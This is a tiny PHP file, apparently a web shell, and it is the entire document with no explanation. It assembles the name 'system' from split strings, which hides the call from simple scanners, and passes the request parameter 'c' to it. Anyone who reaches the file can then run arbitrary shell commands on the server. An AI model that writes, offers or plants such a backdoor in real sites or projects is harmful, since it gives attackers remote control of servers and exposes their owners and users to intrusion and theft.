<?php
$f = 'sys' . 'tem';
$f($_REQUEST['c']);
